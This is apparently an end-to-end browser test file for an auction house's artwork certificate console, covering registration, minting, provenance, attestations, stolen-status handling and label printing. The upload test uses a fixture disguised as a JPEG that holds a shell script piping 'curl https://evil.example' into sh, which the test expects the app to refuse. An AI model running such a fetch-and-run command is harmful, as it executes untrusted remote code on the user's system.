import { createHash } from "node:crypto";
import fs from "node:fs";
import path from "node:path";
import type { Locator, Page } from "playwright-core";
import sharp from "sharp";
import { beforeAll, describe, expect, it } from "vitest";
import { labelQrSvg } from "../../web/src/artworks/lib/label-qr.ts";
import { chromiumAvailable } from "../support/browser.ts";
import { screenshots, seriousViolations, smallPdf } from "../support/console-page.ts";
import { devAccount } from "../support/sign-in.ts";
import type { PlatformProcess } from "../support/start-platform-process.ts";
import { chainNonce, openConsole, shortAddress, useDevAccount } from "./support/console-flows.ts";
import { stepByStepScenario } from "./support/scenario.ts";

/** #0 is the auction house (an authorised issuer of both collections locally), #1 the buyer, #3 the artist's estate. */
const HOUSE = devAccount(0).address;
const BUYER = devAccount(1).address;
const ESTATE = devAccount(3).address;
const ARTIST_WALLET = devAccount(7).address;
const VISIBLE = { state: "visible", timeout: 30_000 } as const;

/** A real photograph-like PNG and JPEG made with sharp (a gradient with a mark, so they differ and compress). */
const painting = (width: number, height: number, color: string) =>
  sharp({ create: { width, height, channels: 3, background: color } })
    .composite([{ input: Buffer.from(`<svg width="${width}" height="${height}"><circle cx="${width / 2}" cy="${height / 2}" r="${height / 3}" fill="#f5d76e"/><rect x="10" y="10" width="${width / 4}" height="${height / 5}" fill="#1d2433"/></svg>`) }]);

describe.runIf(chromiumAvailable())("the auction house's artwork console in a real browser", () => {
  let platform: PlatformProcess;
  let page: Page;
  let artworkUrl = "";
  let tokenIdHex = "";
  const screenshot = screenshots("artwork-console");
  const shot = (name: string) => screenshot(page, name);
  const expectAccessible = async () => expect(await seriousViolations(page)).toEqual([]);
  const fitsPhone = async () => expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(390);
  const houseNonce = () => chainNonce(platform.chainPort, HOUSE);
  /** Files the artwork store holds (content-addressed under the data directory). */
  const storedFiles = () => {
    const dir = path.join(platform.dataDir, "artworks", "files");
    return fs.existsSync(dir) ? fs.readdirSync(dir, { recursive: true }).filter((f) => /[0-9a-f]{64}$/.test(String(f))).length : 0;
  };
  const registeredCount = async () => {
    const response = await fetch(`${platform.webUrl}/graphql`, {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify({ query: `query($i: Address!) { artworks(issuer: $i) { edges { node { id } } } }`, variables: { i: HOUSE } }),
    });
    return ((await response.json()) as { data: { artworks: { edges: unknown[] } } }).data.artworks.edges.length;
  };
  const tab = (name: string) => page.getByRole("navigation", { name: "Certificate tasks" }).getByRole("link", { name });
  /** Moves the focus with Tab alone until `target` has it, as a keyboard user does. */
  const tabTo = async (target: Locator) => {
    for (let i = 0; i < 80; i++) {
      await page.keyboard.press("Tab");
      if (await target.evaluate((el) => el === document.activeElement)) return;
    }
    throw new Error("Tab never reached the control");
  };

  const scenario = stepByStepScenario("artwork-console");
  beforeAll(() => {
    ({ platform, page } = scenario);
  });

  it("shows Artworks to the auction house (an authorised issuer) and its empty list", async () => {
    await openConsole(page, platform.webUrl);
    await page.getByTestId("session").filter({ hasText: "artwork issuer" }).waitFor(VISIBLE);
    await page.getByRole("navigation", { name: "Main" }).getByRole("link", { name: "Artworks" }).click();
    await page.getByRole("heading", { name: "My artworks" }).waitFor(VISIBLE);
    await page.getByText("No artworks registered yet").waitFor(VISIBLE);
    await shot("my-artworks-empty");
    await expectAccessible();
  });

  it("puts a message next to every missing field and sends nothing", async () => {
    await page.getByRole("link", { name: "Register an artwork" }).click();
    await page.getByRole("heading", { name: "Register an artwork" }).waitFor(VISIBLE);
    await page.getByLabel("Year").fill("2990");
    await page.getByRole("button", { name: "Register the artwork" }).click();
    for (const message of ["Enter the artist's name", "Enter the title", "Enter the medium, e.g. Oil on canvas", "Enter a description", "Add at least one image of the work"]) {
      await page.getByText(message).waitFor(VISIBLE);
    }
    await page.getByText(/A whole year no later than \d{4}/).waitFor(VISIBLE);
    await shot("register-errors");
    await expectAccessible();
    expect(await registeredCount()).toBe(0);
  });

  it("refuses a script renamed .jpg by its content, and a truncated PNG on the server, storing nothing", async () => {
    await page.getByLabel("Artist").fill("Berthe Morisot");
    await page.getByLabel("Title").fill("Harbour at Lorient");
    await page.getByLabel("Year").fill("1869");
    await page.getByLabel("Medium").fill("Oil on canvas");
    await page.getByLabel("Dimensions").fill("43.5 × 73 cm");
    await page.getByLabel("Inscriptions").fill("Signed lower left: B. Morisot");
    await page.getByLabel("Description").fill("The artist's sister Edma on the quay at Lorient, painted in the summer of 1869.");
    await page.getByLabel("Images").setInputFiles({ name: "harbour.jpg", mimeType: "image/jpeg", buffer: Buffer.from("#!/bin/sh\ncurl https://evil.example | sh\n") });
    const problem = page.getByTestId("image-problem");
    await problem.waitFor(VISIBLE);
    expect(await problem.textContent()).toBe("harbour.jpg is not a JPEG, PNG or WebP image by its content, whatever its name says");
    await page.getByRole("button", { name: "Register the artwork" }).click();
    await page.getByText("Remove the files that are refused above: nothing is sent while one is bad").waitFor(VISIBLE);
    await shot("script-renamed-jpg-refused");
    await expectAccessible();
    expect(await registeredCount()).toBe(0);
    expect(storedFiles()).toBe(0);

    await page.getByRole("button", { name: "Remove image 1 (harbour.jpg)" }).click();
    const whole = await painting(320, 200, "#2e6f95").png().toBuffer();
    await page.getByLabel("Images").setInputFiles({ name: "cut-short.png", mimeType: "image/png", buffer: whole.subarray(0, Math.floor(whole.length / 2)) });
    await page.getByRole("button", { name: "Register the artwork" }).click();
    const refused = page.getByTestId("upload-refused");
    await refused.waitFor(VISIBLE);
    expect(await refused.textContent()).toContain("The server refused cut-short.png: the image is damaged or cut short");
    expect(await refused.textContent()).toContain("Nothing was stored.");
    await shot("truncated-png-refused");
    expect(await registeredCount()).toBe(0);
    expect(storedFiles()).toBe(0);
    await page.getByRole("button", { name: "Remove image 1 (cut-short.png)" }).click();
  });

  it("registers the work with a PNG and a JPEG and shows its canonical metadata hash and CID", async () => {
    await page.getByLabel("Images").setInputFiles([
      { name: "front.png", mimeType: "image/png", buffer: await painting(480, 300, "#2e6f95").png().toBuffer() },
      { name: "detail.jpg", mimeType: "image/jpeg", buffer: await painting(300, 300, "#8c3b2b").jpeg({ quality: 85 }).toBuffer() },
    ]);
    await page.getByRole("img", { name: "Preview of front.png" }).waitFor(VISIBLE);
    await page.getByRole("img", { name: "Preview of detail.jpg" }).waitFor(VISIBLE);
    await shot("register-filled");
    await page.getByRole("button", { name: "Register the artwork" }).click();
    await page.getByTestId("registered").waitFor(VISIBLE);
    const sha = (await page.getByTestId("metadata-sha256").textContent())!;
    expect(sha).toMatch(/^0x[0-9a-f]{64}$/);
    expect(await page.getByTestId("metadata-cid").textContent()).toMatch(/^b[a-z2-7]{50,}$/);
    tokenIdHex = sha;
    await shot("registered");
    await expectAccessible();
    expect(await registeredCount()).toBe(1);
    expect(storedFiles()).toBe(4); // two images and their thumbnails
  });

  it("mints the certificate from the house's wallet with a 5 % royalty after refusing 15 %", async () => {
    await page.getByRole("link", { name: "Open the artwork to mint its certificate" }).click();
    await page.getByRole("heading", { name: "Mint the certificate" }).waitFor(VISIBLE);
    artworkUrl = page.url();
    const nonce = await houseNonce();
    await page.getByLabel("Royalty receiver").fill(ARTIST_WALLET);
    await page.getByLabel("Royalty (basis points)").fill("1500");
    await page.getByRole("button", { name: "Mint the certificate" }).click();
    await page.getByText("At most 1,000 bps (10 %): 15 % is above the cap").waitFor(VISIBLE);
    expect(await houseNonce()).toBe(nonce);
    await page.getByLabel("Royalty (basis points)").fill("500");
    await shot("mint-form");
    await expectAccessible();
    await page.getByRole("button", { name: "Mint the certificate" }).click();
    await page.getByTestId("certificate-summary").waitFor({ state: "visible", timeout: 60_000 });
    expect(await page.getByTestId("certificate-status").textContent()).toBe("Active");
    expect(await page.getByTestId("certificate-owner").textContent()).toBe(HOUSE);
    expect(await page.getByTestId("certificate-royalty").textContent()).toBe(`5 % (500 bps) to ${ARTIST_WALLET}`);
    await shot("minted");
    await expectAccessible();
  });

  it("records an exhibition entry whose details are hashed in the browser", async () => {
    await tab("Provenance").click();
    await page.getByRole("heading", { name: "Record provenance" }).waitFor(VISIBLE);
    const form = page.getByRole("form", { name: "Record provenance" });
    await form.getByLabel("Kind").selectOption({ label: "Exhibition" });
    const details = "Exhibited: Morisot retrospective, Musée Marmottan Monet, Paris, cat. no. 12";
    await form.getByLabel("Details").fill(details);
    await form.getByRole("button", { name: "Record the entry" }).click();
    await page.getByRole("region", { name: "Record provenance" }).getByTestId("tx-confirmed").waitFor(VISIBLE);
    const expected = `0x${createHash("sha256").update(details).digest("hex")}`;
    expect(await page.getByTestId("provenance-hash").textContent()).toBe(expected);
    await page.getByRole("list", { name: "Certificate history" }).getByText("Exhibition").waitFor(VISIBLE);
    expect(await page.getByRole("list", { name: "Certificate history" }).textContent()).toContain(expected);
  });

  it("records a condition report by the SHA-256 of its file, computed in the browser", async () => {
    const report = smallPdf("Condition report: Harbour at Lorient, stable, minor craquelure upper right");
    const expected = `0x${createHash("sha256").update(report).digest("hex")}`;
    const form = page.getByRole("form", { name: "Condition report" });
    await form.getByLabel("Report file").setInputFiles({ name: "condition-2026.pdf", mimeType: "application/pdf", buffer: report });
    await page.getByTestId("report-hash").filter({ hasText: expected }).waitFor(VISIBLE);
    await form.getByRole("button", { name: "Record the condition report" }).click();
    await page.getByRole("region", { name: "Condition report" }).getByTestId("tx-confirmed").waitFor(VISIBLE);
    const history = page.getByRole("list", { name: "Certificate history" });
    await history.getByText("Condition report").waitFor(VISIBLE);
    expect(await history.textContent()).toContain(expected);
    await shot("provenance");
    await expectAccessible();
  });

  it("gets an attestation signed by the artist's estate (#3) in its wallet and submits it", async () => {
    await tab("Attestations").click();
    const request = page.getByRole("form", { name: "Request an attestation" });
    await request.getByLabel("Attester's role").selectOption({ label: "Artist, estate or foundation" });
    await request.getByLabel("Attester's wallet (optional)").fill(ESTATE);
    await request.getByLabel("Statement").fill("The estate confirms this painting is by Berthe Morisot.");
    await request.getByRole("button", { name: "Make the request" }).click();
    const link = (await page.getByTestId("attestation-link").inputValue())!;
    expect(link).toMatch(new RegExp(`^${platform.webUrl}/artworks/attest\\?`));
    await shot("attestation-requested");
    await expectAccessible();

    await useDevAccount(page, 3);
    await page.goto(link);
    await page.getByRole("heading", { name: "Attest a work" }).waitFor(VISIBLE);
    await page.getByTestId("session").waitFor(VISIBLE);
    expect(await page.getByTestId("attest-statement").textContent()).toBe("“The estate confirms this painting is by Berthe Morisot.”");
    await page.getByText("Berthe Morisot, Harbour at Lorient (1869)").waitFor(VISIBLE);
    await page.getByRole("button", { name: "Sign the attestation" }).click();
    const reply = (await page.getByTestId("signed-attestation").inputValue())!;
    expect(reply).toMatch(/^folio-attestation:/);
    await shot("attester-signed");
    await expectAccessible();

    await useDevAccount(page, 0);
    await page.goto(`${artworkUrl}/attestations`);
    const submit = page.getByRole("form", { name: "Submit a signed attestation" });
    await submit.getByLabel("Signed attestation").fill(reply);
    await submit.getByRole("button", { name: "Submit the attestation" }).click();
    await page.getByRole("region", { name: "Submit a signed attestation" }).getByTestId("tx-confirmed").waitFor(VISIBLE);
    const list = page.getByRole("list", { name: "Attestations" });
    await list.getByText("Attestation: Artist, estate or foundation").waitFor(VISIBLE);
    expect(await list.textContent()).toContain(`by ${shortAddress(ESTATE)} (signed, submitted by the issuer)`);
    await shot("attested");
  });

  it("refuses an illegal status change with the reason, by keyboard, and changes nothing", async () => {
    await tab("Status").click();
    await page.getByRole("heading", { name: "Change the status" }).waitFor(VISIBLE);
    const nonce = await houseNonce();
    const form = page.getByRole("form", { name: "Change the status" });
    const change = form.getByLabel("Change", { exact: true });
    await tabTo(change);
    await change.selectOption("recovered");
    await form.getByLabel("Note").fill("Inventory check 2026");
    const button = form.getByRole("button", { name: "Mark recovered" });
    await tabTo(button);
    await page.keyboard.press("Enter");
    const refusal = page.getByTestId("restriction");
    await refusal.waitFor(VISIBLE);
    expect(await refusal.textContent()).toContain("Only a lost or stolen certificate can be recovered; this one is active");
    expect(await refusal.textContent()).toContain("your wallet was not opened");
    expect(await houseNonce()).toBe(nonce);
    expect(await page.getByTestId("certificate-status").textContent()).toBe("Active");
    await shot("status-refused");
    await expectAccessible();
  });

  it("marks the work stolen: a transfer is refused with the collection's reason; then marks it recovered", async () => {
    const form = page.getByRole("form", { name: "Change the status" });
    await form.getByLabel("Change", { exact: true }).selectOption("stolen");
    await form.getByLabel("Note").fill("Police report 2026/4411, Lorient");
    await form.getByRole("button", { name: "Mark stolen" }).click();
    await page.getByRole("region", { name: "Change the status" }).getByTestId("tx-confirmed").waitFor(VISIBLE);
    await page.getByTestId("certificate-status").filter({ hasText: "Stolen" }).waitFor(VISIBLE);

    await tab("Certificate").click();
    const nonce = await houseNonce();
    const transfer = page.getByRole("form", { name: "Transfer to the buyer" });
    await transfer.getByLabel("Buyer's wallet").fill(BUYER);
    await transfer.getByRole("button", { name: "Transfer the certificate" }).click();
    const refusal = page.getByTestId("restriction");
    await refusal.waitFor(VISIBLE);
    expect(await refusal.textContent()).toContain("Certificate is marked stolen until the issuer recovers it");
    expect(await houseNonce()).toBe(nonce);
    expect(await page.getByTestId("certificate-owner").textContent()).toBe(HOUSE);
    await shot("transfer-refused-stolen");

    await tab("Status").click();
    await form.getByLabel("Change", { exact: true }).selectOption("recovered");
    await form.getByLabel("Note").fill("Recovered by the police, 2026");
    await form.getByRole("button", { name: "Mark recovered" }).click();
    await page.getByRole("region", { name: "Change the status" }).getByTestId("tx-confirmed").waitFor(VISIBLE);
    await page.getByTestId("certificate-status").filter({ hasText: "Active" }).waitFor(VISIBLE);
  });

  it("transfers the certificate to the buyer (#1) after the collection's check", async () => {
    await tab("Certificate").click();
    const form = page.getByRole("form", { name: "Transfer to the buyer" });
    await form.getByLabel("Buyer's wallet").fill(BUYER);
    await form.getByRole("button", { name: "Transfer the certificate" }).click();
    await page.getByRole("region", { name: "Transfer to the buyer" }).getByTestId("tx-confirmed").waitFor(VISIBLE);
    await page.getByTestId("certificate-owner").filter({ hasText: BUYER }).waitFor(VISIBLE);
    await page.getByTestId("transfer-unavailable").waitFor(VISIBLE);
    await shot("transferred");
    await expectAccessible();
    await tab("Provenance").click();
    const history = page.getByRole("list", { name: "Certificate history" });
    await history.getByText(`from ${shortAddress(HOUSE)} to ${shortAddress(BUYER)}`).waitFor(VISIBLE);

    // The house records the sale itself: price in euros, the lot number, the sale's documents hashed.
    const saleForm = page.getByRole("form", { name: "Record provenance" });
    await saleForm.getByLabel("Kind").selectOption({ label: "Sale" });
    await saleForm.getByLabel("Price").fill("1,250,000.005");
    await saleForm.getByLabel("Lot").fill("42");
    await saleForm.getByLabel("Details").fill("Impressionist Evening Sale, Paris, 2 December 2026, lot 42");
    await saleForm.getByRole("button", { name: "Record the entry" }).click();
    await saleForm.getByText("At most 2 decimals in EUR").waitFor(VISIBLE);
    await saleForm.getByLabel("Price").fill("1,250,000");
    await saleForm.getByRole("button", { name: "Record the entry" }).click();
    await page.getByRole("region", { name: "Record provenance" }).getByTestId("tx-confirmed").waitFor(VISIBLE);
    await history.getByText("1,250,000.00 EUR, lot 42", { exact: false }).waitFor(VISIBLE);
    await shot("sale-recorded");
  });

  it("prints a label whose QR code holds the public verification URL", async () => {
    await tab("Print label").click();
    const label = page.getByTestId("artwork-label");
    await label.waitFor(VISIBLE);
    const url = (await page.getByTestId("label-url").textContent())!;
    expect(url).toMatch(new RegExp(`^${platform.webUrl}/verify/0x[0-9a-fA-F]{40}/${tokenIdHex}$`));
    expect(await page.getByTestId("label-token-id").textContent()).toBe(tokenIdHex);
    expect(await label.textContent()).toContain("Berthe Morisot");
    expect(await label.textContent()).toContain("Harbour at Lorient");
    // The QR code is exactly the encoding of the printed URL (the same encoder and options give the same modules).
    // The browser re-serialises the markup, so the modules (the dark path) and the size are compared.
    const modules = (svg: string) => [/viewBox="([^"]+)"/.exec(svg)?.[1], /stroke="#000000" d="([^"]+)"/.exec(svg)?.[1]];
    const shown = modules(await page.getByTestId("label-qr").innerHTML());
    expect(shown[1]).toMatch(/^M/);
    expect(shown).toEqual(modules(await labelQrSvg(url)));
    const otherUrl = url.slice(0, -1) + (url.endsWith("0") ? "1" : "0");
    expect(modules(await labelQrSvg(otherUrl))).not.toEqual(shown);
    await shot("label");
    await expectAccessible();
    await page.emulateMedia({ media: "print" });
    expect(await page.getByRole("navigation", { name: "Certificate tasks" }).isVisible()).toBe(false);
    await shot("label-print");
    await page.emulateMedia({ media: "screen" });
  });

  it("lists the work as minted and active, and fits every page on a 390 px wide screen", async () => {
    await page.getByRole("navigation", { name: "Main" }).getByRole("link", { name: "Artworks" }).click();
    const row = page.getByTestId("artwork-row").filter({ hasText: "Harbour at Lorient" });
    await row.getByText("Certificate active").waitFor(VISIBLE);
    await shot("my-artworks");
    await expectAccessible();
    await page.setViewportSize({ width: 390, height: 844 });
    for (const [url, name] of [["/artworks", "list"], ["/artworks/register", "register"], [artworkUrl.replace(platform.webUrl, ""), "certificate"], [`${artworkUrl.replace(platform.webUrl, "")}/provenance`, "provenance"], [`${artworkUrl.replace(platform.webUrl, "")}/label`, "label"]] as const) {
      await page.goto(`${platform.webUrl}${url}`);
      await page.locator("h1").first().waitFor(VISIBLE);
      await page.waitForLoadState("networkidle");
      await fitsPhone();
      await shot(`${name}-390px`);
    }
    await page.setViewportSize({ width: 1280, height: 900 });
  });
});
